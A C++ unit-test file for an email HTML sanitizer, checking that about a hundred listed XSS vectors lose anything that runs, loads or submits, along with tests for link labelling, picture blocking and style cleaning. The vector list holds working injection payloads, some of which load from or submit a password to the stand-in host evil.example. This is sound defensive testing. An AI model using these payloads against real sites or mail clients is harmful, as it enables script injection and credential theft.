// SPDX-License-Identifier: Apache-2.0
#include "platform/mail/wash.h"

#include "platform/mail/ascii.h"
#include "platform/mail/charset.h"
#include "platform/mail/wash_style.h"
#include "platform/mail/washed_pictures.h"

#include <doctest/doctest.h>

#include <cstdlib>
#include <fstream>
#include <iterator>

using namespace amends;
using mail::holds;
using mail::wash;

namespace {

std::string washed(const std::string& html) { return wash(mail::HtmlTree(html)).html; }

// A tag of the outcome, as a browser would see it: nothing that runs, loads, submits, frames or covers.
bool harmless_tag(std::string_view tag)
{
    if (tag.starts_with('/')) tag.remove_prefix(1);
    const auto bare = tag.substr(0, tag.find(' '));
    if (!holds(" " + std::string(mail::washed_elements()) + " ", " " + std::string(bare) + " ")) return false;
    for (std::size_t at = tag.find('='); at != std::string_view::npos; at = tag.find('=', at + 1)) {
        const auto start = tag.rfind(' ', at);
        const auto attribute = std::string(tag.substr(start + 1, at - start - 1));
        const auto end = tag.find('"', at + 2);
        const auto value = mail::lower(tag.substr(at + 2, end - at - 2));
        const auto known = " " + std::string(mail::washed_attributes()) + " rel target data-cid ";
        if (!holds(known, " " + attribute + " ")) return false;
        if (attribute == "href" && !value.starts_with("http:") && !value.starts_with("https:") &&
            !value.starts_with("mailto:") && !value.starts_with("tel:"))
            return false;
        if (attribute == "src" && !value.starts_with("data:image/")) return false;
        if (attribute == "style" && (holds(value, "url") || holds(value, "expression") || holds(value, "@") ||
                                     holds(value, "\\") || holds(value, "position")))
            return false;
        at = end == std::string_view::npos ? tag.size() - 1 : end;
    }
    return true;
}

// Every tag of the outcome is one of ours; between them there is no bracket.
bool harmless(const std::string& html)
{
    const auto out = washed(html);
    for (std::size_t at = out.find('<'); at != std::string::npos; at = out.find('<', at + 1)) {
        const auto end = out.find('>', at);
        if (end == std::string::npos || !harmless_tag(std::string_view(out).substr(at + 1, end - at - 1))) return false;
    }
    return true;
}

std::string browser_list(const std::string& source, const std::string& name)
{
    auto at = source.find(name);
    const auto end = source.find(").split", at);
    std::string words;
    while ((at = source.find('\'', at)) < end) {
        const auto close = source.find('\'', at + 1);
        words += source.substr(at + 1, close - at - 1);
        at = close + 1;
    }
    return words;
}

constexpr const char* vectors[] = {
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script >",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\n'alert(1)'>",
    "<img/src='x'/onerror=alert(1)>",
    "<img src=\"x\"onerror=alert(1)>",
    "<img src=x:x onerror=`alert(1)`>",
    "<img src='javascript:alert(1)'>",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<img src=\"data:text/html,<script>alert(1)</script>\">",
    "<img src=\"data:image/png;base64,AA\\\" onerror=alert(1)\">",
    "<img srcset=\"//evil.example/a 1x\">",
    "<img src=cid:a onload=alert(1)>",
    "<img src=\"cid:a&quot; onerror=&quot;alert(1)\">",
    "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61vascript:alert(1)\">x</a>",
    "<a href=\"\x01javascript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=\"//evil.example\" ping=\"//evil.example/p\">x</a>",
    "<a href='http://a.example' onclick=alert(1)>x</a>",
    "<a href=\"http://a.example/&quot; onmouseover=&quot;alert(1)\">x</a>",
    "<a href=http://a.example target=_self rel=opener id=x name=y>x</a>",
    "<a style=\"position:fixed;top:0;left:0;width:100%;height:100%\" href=http://a.example>x</a>",
    "<div style=\"background:url(//evil.example/x)\">x</div>",
    "<div style=\"background-image:u\\72l(//evil.example/x)\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<div style=\"width:exp/**/ression(alert(1))\">x</div>",
    "<div style=\"-moz-binding:url(//evil.example/x#y)\">x</div>",
    "<div style=\"behavior:url(x.htc)\">x</div>",
    "<div style=\"color:red;}@import '//evil.example'\">x</div>",
    "<div style=\"font-family:'</style><script>alert(1)</script>'\">x</div>",
    "<div style='color:red\" onclick=\"alert(1)'>x</div>",
    "<div style=\"border-image:image-set('//evil.example/x' 1x)\">x</div>",
    "<style>body{background:url(//evil.example)}</style>",
    "<style><!--</style><script>alert(1)</script>-->",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<form action=//evil.example><input name=password><button>Go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<textarea autofocus onfocus=alert(1)></textarea><textarea></textarea><img src=x onerror=alert(1)>",
    "<isindex action=javascript:alert(1)>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1) background=//evil.example/x>",
    "<table background=//evil.example/x><td background=javascript:alert(1)>x</table>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=1?><img src=x onerror=alert(1)>",
    "<x onclick=alert(1) style=color:red>x</x>",
    "<custom-element onfocus=alert(1) tabindex=0>x</custom-element>",
    "<p title=\"><img src=x onerror=alert(1)>\">x</p>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<p lang=\"\"onclick=alert(1)\">x</p>",
    "<font color='\"><script>alert(1)</script>'>x</font>",
    "<div id=x class=y name=z contenteditable>x</div>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<img src=x onerror=alert(1)//",
    "<<script>alert(1)//<</script>",
    "<a href=\"http://a.example\"><a href=\"javascript:alert(1)\">x",
    "<map><area href=javascript:alert(1)></map>",
    "<input type=image src=x onerror=alert(1)>",
    "<portal src=//evil.example></portal>",
    "<slot onslotchange=alert(1)></slot><dialog open>x</dialog>",
};

constexpr const char* hostile_mails = "tests/hostile/mails.txt";
constexpr const char* hostile_washed = "tests/hostile/washed.txt";

std::vector<std::string> lines_of(const char* path)
{
    std::ifstream file(path);
    std::vector<std::string> lines;
    for (std::string line; std::getline(file, line);) lines.push_back(line);
    return lines;
}

std::string on_one_line(const std::string& html)
{
    std::string line;
    for (const char letter : html) line += letter == '\n' ? "&#10;" : letter == '\r' ? "&#13;" : std::string(1, letter);
    return line;
}

const std::string one_pixel = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAA=";

} // namespace

TEST_CASE("nothing of known attacks survives the wash")
{
    for (const auto* vector : vectors) {
        CAPTURE(std::string(vector));
        CHECK(harmless(vector));
    }
    CHECK(std::size(vectors) >= 60);
}

TEST_CASE("T1: of every hostile mail nothing is left that a browser would run, load or submit, once washed or twice")
{
    const auto mails = lines_of(hostile_mails);

    CHECK(mails.size() >= 500);
    for (const auto& mail : mails) {
        CAPTURE(mail);
        CHECK(harmless(mail));
        CHECK(harmless(washed(mail)));
        CHECK(washed(washed(washed(mail))) == washed(washed(mail))); // It changes its meaning no more.
    }
}

// Chromium is shown these without its own wash (web/e2e). AMENDS_WRITE_WASHED=1 writes them anew.
TEST_CASE("T1: what Chromium is shown as washed by the desk is what the desk makes of the hostile mails today")
{
    const auto mails = lines_of(hostile_mails);
    if (std::getenv("AMENDS_WRITE_WASHED") != nullptr) {
        std::ofstream file(hostile_washed);
        for (const auto& mail : mails) file << on_one_line(washed(mail)) << "\n";
    }
    const auto kept = lines_of(hostile_washed);

    REQUIRE(kept.size() == mails.size());
    for (std::size_t at = 0; at < mails.size(); ++at) CHECK(kept[at] == on_one_line(washed(mails[at])));
}

TEST_CASE("washing twice changes nothing that could be read as markup")
{
    for (const auto* vector : vectors) {
        CAPTURE(std::string(vector));
        CHECK(harmless(washed(vector)));
    }
}

TEST_CASE("what runs, frames or submits goes with its content")
{
    CHECK(washed("a<script>b</script>c<style>d</style>e<svg><text>f</text></svg>g<title>h</title>i") == "acegi");
    CHECK(washed("a<button>b</button><select><option>c</select><textarea>d</textarea>e") == "ae");
    CHECK(washed("a<!-- b -->c<!--[if mso]>d<![endif]-->e") == "ace");
}

TEST_CASE("an address that is too long is not cut within a letter")
{
    std::string path = "x"; // The first 4,000 bytes of the address end within a letter.
    for (int i = 0; i < 2'000; ++i) path += "ä";

    CHECK(mail::is_utf8(washed("<a href=\"https://a.example/" + path + "\">a</a>")));
    CHECK(mail::is_utf8(washed("<a href=\"https://a.example/y" + path + "\">a</a>")));
}

TEST_CASE("of what is unknown the words stay")
{
    CHECK(washed("<article>a<o:p>b</o:p><form>c</form></article>") == "abc");
}

TEST_CASE("links open elsewhere and say where they lead")
{
    CHECK(
        washed("<a href=\"https://a.example/x?y=1&amp;z=2\">here</a>") ==
        "<a href=\"https://a.example/x?y=1&amp;z=2\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">here</a>");
    CHECK(washed("<a href=\"/relative\">here</a>") == "<a>here</a>");
    CHECK(
        holds(washed("<a href=\"https://evil.example/\">https://www.bank.example/login</a>"), "</a> [evil.example] "));
    CHECK(holds(washed("<a href=\"https://evil.example/\">www.<b>bank</b>.example</a>"), "</a> [evil.example] "));
    CHECK(holds(washed("<a href=\"https://bank.example@evil.example/\">bank.example</a>"), "</a> [evil.example] "));
    CHECK_FALSE(holds(washed("<a href=\"https://www.bank.example/x\">bank.example</a>"), "["));
    CHECK_FALSE(holds(washed("<a href=\"https://shop.bank.example/\">https://bank.example</a>"), "["));
    CHECK_FALSE(holds(washed("<a href=\"mailto:a@b.example\">www.c.example</a>"), "["));
}

TEST_CASE("pictures wait for the reader, or for their part")
{
    const auto found = wash(mail::HtmlTree(
        "<img src=\"https://a.example/p.png?id=7\" alt=Logo width=10><img src=\"cid:one%40x\"><img src=//b.example/q>"
        "<img src=\"" +
        one_pixel + "\"><img data-remote=\"https://c.example\" src=\"file:///etc\">"));

    CHECK(found.html ==
          "<img alt=\"Logo\" width=\"10\" data-remote=\"https://a.example/p.png?id=7\"><img data-cid=\"one@x\">"
          "<img data-remote=\"https://b.example/q\"><img src=\"" +
              one_pixel + "\"><img>");
    CHECK(found.remote == 2);
    CHECK(found.content_ids == std::vector<std::string>{"one@x"});
}

TEST_CASE("T19: a picture within the HTML that would fill the reader's memory, or is none, is not shown")
{
    for (const auto* const bytes : {"iVBORw0KGgoAAAANSUhEUgAA6mAAAOpgCAYAAAA=", // 60,000 by 60,000.
                                    "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", "R0lGODlh", "", "===="})
        CHECK(washed("<img src=\"data:image/png;base64," + std::string(bytes) + "\">") == "<img>");
}

TEST_CASE("addresses of our own are put into pictures, and into nothing else")
{
    const mail::PictureAddresses addresses{
        .part = [](std::string_view id) { return id == "p1@x" ? "/files/1" : std::string(); },
        .remote = [](std::string_view address) { return "/image-proxy/" + std::to_string(address.size()); }};
    const auto shown = [&](const std::string& html) { return mail::with_pictures(washed(html), addresses); };

    CHECK(shown("<p>a<img src='cid:p1@x' alt='b'>c</p>") == "<p>a<img alt=\"b\" src=\"/files/1\">c</p>");
    CHECK(shown("<img src='cid:unknown'>") == "<img>");
    CHECK(shown("<img src='http://a.example/?b&c'>") == "<img data-remote=\"/image-proxy/21\">");
    CHECK(shown("<img alt=' data-cid=' title='&quot;>' src=x>") == "<img alt=\" data-cid=\" title=\"&quot;&gt;\">");
    CHECK(shown("&lt;img data-cid=\"p1@x\"&gt;") == "&lt;img data-cid=&quot;p1@x&quot;&gt;");
}

TEST_CASE("a style keeps its looks and loses what reaches out of the mail")
{
    CHECK(mail::washed_style("color: red; Font-Family: \"Arial; x\", sans-serif; border-top:1px solid rgb(1, 2, 3)") ==
          "color:red;font-family:\"Arial; x\", sans-serif;border-top:1px solid rgb(1, 2, 3)");
    CHECK(mail::washed_style("position:absolute;top:0;z-index:9;opacity:0;content:'x'").empty());
    CHECK(mail::washed_style("margin:-50px 0;padding:1px").find("margin") == std::string::npos);
    CHECK(mail::washed_style("text-indent:-9999px").empty());
    CHECK(mail::washed_style("color:var(--x);width:calc(1px)").empty());
    CHECK(mail::washed_style("").empty());
    CHECK(mail::washed_style(":;::;;color").empty());
}

TEST_CASE("no name of a style hides another declaration")
{
    CHECK(mail::washed_style("font-\\\":a;position:fixed;\":b").empty());
    CHECK(mail::washed_style("text-indent</style>:1px").empty());
    CHECK(mail::washed_style("text-/*:a;color:red") == "color:red");
}

TEST_CASE("text stays text, in every script")
{
    CHECK(washed("<p dir=rtl>سلام &amp; <b>5 &lt; 6</b></p>") == "<p dir=\"rtl\">سلام &amp; <b>5 &lt; 6</b></p>");
    CHECK(washed("<p>Γεια σου &euro; &#x20AC; \"quoted\"</p>") == "<p>Γεια σου € € &quot;quoted&quot;</p>");
}

TEST_CASE("the browser washes with the same lists")
{
    std::ifstream file("web/src/core/mail/purify.ts");
    REQUIRE(file.good());
    const std::string source{std::istreambuf_iterator<char>(file), {}};

    CHECK(browser_list(source, "ALLOWED_TAGS") == mail::washed_elements());
    CHECK(browser_list(source, "ALLOWED_ATTR") == mail::washed_attributes());
}
